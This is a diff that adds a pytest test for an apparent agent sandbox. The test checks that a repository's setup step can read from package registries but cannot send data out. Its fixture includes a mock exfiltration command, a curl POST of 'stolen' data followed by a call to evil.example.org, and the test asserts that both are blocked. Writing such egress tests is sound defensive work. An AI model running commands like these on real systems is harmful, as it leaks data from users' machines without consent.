@@ -151,3 +151,27 @@ def test_a_repository_only_asks(answer: Answer, home: House, tmp_path: Path) -> 
     assert "asks for network that is not granted: open, api.example.org/v1 GET" in ended.stderr
     (wish,) = ended.json["attempts"][0]["blocked"]
     assert (wish["host"], wish["reason"]) == ("api.example.org", "asked for in .overnight.toml")
+
+
+def test_setup_reads_the_registries_of_this_machine_and_no_more(
+    answer: Answer, tmp_path: Path, service: str
+) -> None:
+    index = f"http://{service}/simple"
+    fetch = "curl -fsS $PIP_INDEX_URL/package -o /dependencies/package || exit 9; "
+    write = "curl -sS -X POST -d stolen $PIP_INDEX_URL/upload; curl -sS http://evil.example.org/; true"
+    own = f'setup = ["{fetch}{write}"]\n[network]\nsetup = "registries"\n'
+    repository = make_repository(tmp_path / "registries", {"a.txt": "x\n", ".overnight.toml": own})
+    show = ("--", "bash", "-c", "cat /dependencies/package; env | grep -c PIP_INDEX_URL")
+    arguments = ("env", "exec", "--repo", str(repository))
+    ended = answer(*arguments, *show, PIP_INDEX_URL=index)
+    if "cannot hold the network policy" in ended.stderr:
+        pytest.skip("the sandbox of this machine has no egress")
+    assert ended.stdout == "canary0\n", "installed, and nothing of the settings is left for the agent"
+    assert Canary.asked == ["/simple/package"], "read, and not written to"
+    assert f"blocked: {service} (method POST not allowed)" in ended.stderr
+    assert "blocked: evil.example.org" in ended.stderr
+    # A person's word wins over the repository's.
+    ended = answer(*arguments, "--setup-network", "none", *show, PIP_INDEX_URL=index)
+    assert ended.code == 1
+    assert "Setup ran without network" in ended.stderr
+    assert Canary.asked == ["/simple/package"]
